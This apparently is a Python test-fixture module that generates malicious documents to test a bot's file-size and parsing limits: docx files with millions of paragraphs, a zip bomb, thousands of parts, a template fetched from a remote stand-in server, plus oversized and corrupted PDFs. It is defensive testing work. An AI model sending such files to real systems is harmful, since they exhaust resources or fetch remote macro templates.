"""Documents built to tie a reader up or reach outside themselves: what the limits of
bot/plans/document_limits.py are tested with (the command line and the chat upload alike)."""

from __future__ import annotations

import io
import zipfile

import docx
from pypdf import PdfWriter


def plain_docx(text: str = "Kế hoạch") -> bytes:
    document = docx.Document()
    document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _rewritten(change: dict[str, bytes | None], add: dict[str, bytes] | None = None) -> bytes:
    """A plain .docx with parts replaced (`None` keeps it), more parts added."""
    source = zipfile.ZipFile(io.BytesIO(plain_docx()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for part in source.infolist():
            data = change.get(part.filename) or source.read(part)
            z.writestr(part.filename, data)
        for name, data in (add or {}).items():
            z.writestr(name, data)
    return out.getvalue()


def _body(xml: bytes) -> bytes:
    document = zipfile.ZipFile(io.BytesIO(plain_docx())).read("word/document.xml")
    at = document.index(b"<w:body>") + len(b"<w:body>")
    return document[:at] + xml + document[at:]


def empty_paragraphs(count: int = 2_000_000) -> bytes:
    """Two million empty paragraphs: a few hundred KB that kept the readers busy for minutes."""
    return _rewritten({"word/document.xml": _body(b"<w:p/>" * count)})


def one_huge_text(chars: int = 3_000_000) -> bytes:
    """One paragraph holding millions of characters."""
    return _rewritten(
        {"word/document.xml": _body(b"<w:p><w:r><w:t>" + b"a" * chars + b"</w:t></w:r></w:p>")}
    )


def zip_bomb(unpacked: int = 64 * 1024 * 1024) -> bytes:
    """A part that unpacks to far more than the archive's size."""
    return _rewritten({}, {"word/media/bom.bin": b"\0" * unpacked})


def many_parts(count: int = 2_000) -> bytes:
    return _rewritten({}, {f"customXml/extra{n}.xml": b"<a/>" for n in range(count)})


def external_template() -> bytes:
    """A .docx whose settings name a template on a remote server (fetched when Word opens it)."""
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://203.0.113.9/mau.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    return _rewritten({}, {"word/_rels/settings.xml.rels": rels})


def many_pages(count: int = 60_000) -> bytes:
    writer = PdfWriter()
    for _ in range(count):
        writer.add_blank_page(72, 72)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def broken_xref() -> bytes:
    """A PDF whose cross-reference table points nowhere."""
    return (
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
        b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
        b"xref\n0 4\n0000000000 65535 f \n9999999999 00000 n \n9999999999 00000 n \n"
        b"9999999999 00000 n \ntrailer << /Size 4 /Root 1 0 R >>\nstartxref\n999999\n%%EOF\n"
    )
